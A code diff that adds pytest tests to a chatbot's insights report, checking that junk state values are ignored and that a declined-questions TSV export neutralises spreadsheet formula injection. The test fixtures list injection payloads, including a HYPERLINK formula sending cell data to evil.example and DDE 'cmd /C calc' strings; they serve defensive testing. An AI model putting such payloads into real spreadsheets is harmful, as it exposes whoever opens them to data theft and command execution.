@@ -1,17 +1,19 @@
 """The insights report's parts without servers: the period, the endpoints configuration,
-the session cookie, the charts, and how stored events become turns (the end-to-end test
-with a real database is tests/test_insights_e2e.py)."""
+the session cookie, the charts, how stored events become turns, and the declined-questions
+TSV's cells (the end-to-end test with a real database is tests/test_insights_e2e.py)."""
 
 from __future__ import annotations
 
 import datetime as dt
+import json
 import re
 import sqlite3
 
 import pytest
 
-from insights import charts, store
-from insights.metrics import compute
+from insights import charts, store, tsv
+from insights.clusters import Cluster
+from insights.metrics import Question, compute
 from insights.period import Period, parse_period
 from insights.store import StoredEvent
 from insights.turns import ANSWERED, CLARIFIED, DECLINED, OTHER, read_turns
@@ -150,3 +152,112 @@ def test_the_sign_in_guard_counts_wrong_tokens_per_address_within_the_window():
     guard.failed("b", now=4)
     guard.succeeded("b")
     assert guard.wait_seconds("b", now=5) == 0
+
+
+JUNK_STATES = ["XX", None, 42, "<b>", ["PA"], {"code": "OH"}, "", "Pennsylvania"]
+
+
+def test_a_report_skips_state_values_that_are_no_known_state(tmp_path, monkeypatch, kb):
+    """Conversations stored with ``us_state`` "XX" (a typed ``/give_state{"us_state":"XX"}``,
+    before the slot refused it), None, a number or markup: ``make report`` still writes the
+    report, and counts only the known states."""
+    from collections import Counter
+
+    from insights.html_report import render
+    from insights.report import build_from_config
+    from scripts import report as report_script
+
+    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
+    db = tmp_path / "tracker.db"
+    rows = []
+    for n, junk in enumerate(JUNK_STATES):  # one conversation per junk value, nothing else
+        rows += [_user(f"junk{n}", t + n, "/give_state", "give_state")]
+        rows += [_slot(f"junk{n}", t + n, "us_state", junk)]
+    rows += [  # junk then a real state in one conversation; a real one in lower case
+        _user("pa", t, "/give_state", "give_state"), _slot("pa", t, "us_state", "XX"),
+        _user("pa", t + 1, "PA mom here", "give_state"), _slot("pa", t + 1, "us_state", "PA"),
+        _user("oh", t, "we're in ohio", "give_state"), _slot("oh", t, "us_state", " oh "),
+    ]  # fmt: skip
+    with sqlite3.connect(db) as connection:
+        connection.execute(
+            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
+            "timestamp REAL, data TEXT)"
+        )
+        connection.executemany(
+            "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES (?, ?, ?, ?)",
+            [(e.sender_id, e.type_name, e.timestamp, json.dumps(e.data)) for e in rows],
+        )
+    endpoints = tmp_path / "endpoints.yml"
+    endpoints.write_text(f"tracker_store:\n  type: x\n  dialect: sqlite\n  db: {db}\n")
+    period = Period(TODAY, TODAY)
+
+    report = build_from_config(period, endpoints)
+    assert report.insights.conversations == len(JUNK_STATES) + 2
+    assert report.insights.states == Counter({"PA": 1, "OH": 1})
+    page = render(report.insights, report.clusters, kb, tsv_href="declined.tsv")
+    states = page[page.index('id="states"') :]
+    assert "Pennsylvania" in states and "Ohio" in states and "XX" not in states
+
+    out = tmp_path / "report"  # `make report`, as the content owner runs it
+    monkeypatch.setattr(
+        "sys.argv",
+        ["report", "--since", "2026-11-28", "--until", "2026-11-28", "--out", str(out),
+         "--endpoints", str(endpoints)],
+    )  # fmt: skip
+    assert report_script.main() == 0
+    assert "Pennsylvania" in (out / "report.html").read_text(encoding="utf-8")
+
+
+def test_figures_and_the_page_skip_a_state_that_is_no_known_state(kb):
+    """Each layer on its own: turns read from junk events, a hand-made turn, the page."""
+    from collections import Counter
+
+    from insights.html_report import render
+    from insights.metrics import Insights
+
+    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
+    events = [_user("p", t, "/give_state", "give_state")]
+    events += [_slot("p", t, "us_state", junk) for junk in JUNK_STATES]
+    [turn] = read_turns(events)
+    assert turn.states == []
+    turn.states = ["XX", "<b>", "TX"]  # a turn built elsewhere
+    assert compute([turn], Period(TODAY, TODAY)).states == Counter({"TX": 1})
+    page = render(Insights(Period(TODAY, TODAY), states=Counter({"XX": 3})), [], kb, "d.tsv")
+    assert "No parent named a state in this period." in page
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click for help")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '"=1+1',  # a quoted field in a spreadsheet's eyes
+    "\t=1+1",
+    "\r\n=2+2",
+]
+# What a spreadsheet could take for a formula, or for the start of a quoted field (OWASP).
+DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", '"')
+
+
+def test_tsv_cells_cannot_run_as_formulas_nor_start_new_cells_or_rows():
+    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
+    texts = FORMULAS + ["what is mediation?", "a tab\there, a line\nthere =1+1"]
+    questions = [Question(text, "declined", t + i, "out_of_scope") for i, text in enumerate(texts)]
+    questions.append(Question("-anything", "declined", t + 99, "=evil()"))
+    clusters = [Cluster(size=len(questions), examples=[], questions=questions)]
+    text = tsv.declined_tsv(clusters, Period(TODAY, TODAY))
+    lines = text.splitlines()
+    header, *data = [line.split("\t") for line in lines if not line.startswith("#")]
+    assert len(data) == len(questions)  # one row each: no tab or line break made more
+    assert all(len(row) == len(header) for row in data)
+    assert all(not cell.startswith(DANGEROUS_STARTS) for row in data for cell in row)
+    cells = {row[0]: row for row in data}
+    assert cells['\'=HYPERLINK("http://evil.example/?"&A1,"click for help")']
+    assert cells["'+cmd|' /C calc'!A0"] and cells["'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert cells["'=1+1"] and cells["'=2+2"]  # whitespace collapsed first, then guarded
+    assert cells["'\"=1+1"]
+    assert cells["what is mediation?"][1] == "out_of_scope"  # ordinary text is as typed
+    assert cells["a tab here, a line there =1+1"]
+    assert cells["'-anything"][1] == "'=evil()"  # every text cell, the intent included
+    comments = [line for line in lines if line.startswith("#")]
+    assert any("drop that '" in line for line in comments)  # the owner is told
